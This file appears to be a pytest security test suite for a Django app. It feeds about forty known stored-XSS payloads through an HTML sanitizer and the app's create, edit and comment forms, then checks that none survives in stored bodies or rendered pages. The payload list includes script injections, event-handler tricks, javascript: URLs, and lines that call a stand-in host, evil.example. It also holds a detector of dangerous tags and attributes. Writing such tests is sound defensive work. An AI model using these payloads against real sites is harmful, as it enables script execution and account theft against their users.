"""Stored XSS: known payloads through the real forms; none survives storage or
rendering."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from briefing.models import Item
from briefing.sanitize import clean_html, search_text

from .item_helpers import S, item_in_state, make_cast

pytestmark = pytest.mark.one_database

IMG = "/items/images/" + "a" * 32 + ".png"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="//evil.example/a.png">',
    '<img src="https://evil.example/items/images/' + "a" * 32 + '.png">',
    '<img src="' + IMG + '" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="&#106;avascript:alert(1)">点我</a>',
    '<a href="data:text/html,<script>alert(1)</script>">点我</a>',
    '<a href="vbscript:msgbox(1)">点我</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example"><button>提交</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p onmouseover="alert(1)">悬停</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<base href="https://evil.example/">',
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)//",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>点我</x>",
]

# Tags the site's own pages never use: any of them in a page came from a payload.
DANGEROUS_TAGS = {
    "iframe", "object", "embed", "svg", "math", "style", "base", "video",
    "source", "marquee", "x", "template", "noscript", "animate", "frame",
}  # fmt: skip


class Finder(HTMLParser):
    """Collects what a browser would act on: tags, handlers, URLs, styles."""

    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        src = (attrs.get("src") or attrs.get("href") or "").strip().lower()
        # A JSON data block (CKEditor's config) is never executed.
        data_block = attrs.get("type") == "application/json"
        if tag == "script" and not src.startswith("/static/") and not data_block:
            self.problems.append("<script>")
        if tag == "link" and not src.startswith("/static/"):
            self.problems.append(f"<link href={src[:30]}>")
        if tag == "meta" and "http-equiv" in attrs:
            self.problems.append("<meta http-equiv>")
        if tag == "form" and (attrs.get("action") or "").startswith(("http", "//")):
            self.problems.append("<form action=foreign>")
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs.items():
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}")
            if name == "style":
                self.problems.append(f"{tag} style")
            if name in {"href", "src", "action", "background", "formaction"} and (
                value.startswith(("javascript:", "data:", "vbscript:"))
            ):
                self.problems.append(f"{tag} {name}={value[:30]}")
            if name == "srcdoc":
                self.problems.append(f"{tag} srcdoc")
            if tag == "img" and name == "src" and value != IMG:
                self.problems.append(f"img src={value[:40]}")


def problems(html):
    finder = Finder()
    finder.feed(html)
    return finder.problems


def test_there_are_at_least_30_payloads():
    print(f"XSS payloads: {len(PAYLOADS)}")
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_clean_html_removes_the_payload(payload):
    assert problems(clean_html(payload)) == []


def test_allowed_content_survives():
    body = (
        "<p>第一段<strong>加粗</strong>。</p><ul><li>一</li></ul><ol><li>二</li></ol>"
        '<figure class="table"><table><tbody><tr><td colspan="2">表</td></tr>'
        f'</tbody></table></figure><figure class="image"><img src="{IMG}" alt="图">'
        "</figure>"
    )
    assert clean_html(body) == body
    assert search_text("标题", "<p>a<b>b</b></p><p>c&amp;d</p>") == "标题\nab\nc&d"


@pytest.mark.django_db
def test_payloads_through_the_real_forms_are_not_stored_or_rendered(client):
    cast = make_cast()
    client.force_login(cast.clerk)
    for payload in PAYLOADS:
        response = client.post(
            reverse("briefing:item_create"),
            {
                "title": f"标题{payload}",
                "body": f"<p>正文</p>{payload}",
                "contact_name": payload[:30],
                "action": "save",
            },
        )
        assert response.status_code == 302, payload
    items = list(Item.objects.order_by("pk"))
    assert len(items) == len(PAYLOADS)
    for item, payload in zip(items, PAYLOADS, strict=True):
        assert problems(item.body) == [], (payload, item.body)
        page = client.get(reverse("briefing:item_detail", args=[item.pk]))
        assert problems(page.content.decode()) == [], payload
        edit = client.get(reverse("briefing:item_edit", args=[item.pk]))
        assert problems(edit.content.decode()) == [], payload


@pytest.mark.django_db
def test_payloads_in_editor_saves_and_comments(client):
    cast = make_cast()
    client.force_login(cast.editor)
    for payload in PAYLOADS[:10]:
        item = item_in_state(cast, S.EDITING)
        client.post(
            reverse("briefing:item_editor_edit", args=[item.pk]),
            {
                "title": "标题",
                "body": payload,
                "note": payload[:100],
                "version": item.version,
            },
        )
        client.post(
            reverse("briefing:item_move", args=[item.pk, "return"]),
            {"comment": payload},
        )
        item.refresh_from_db()
        assert problems(item.body) == []
        assert problems(item.revisions.last().body) == []
        page = client.get(reverse("briefing:item_detail", args=[item.pk]))
        assert problems(page.content.decode()) == [], payload
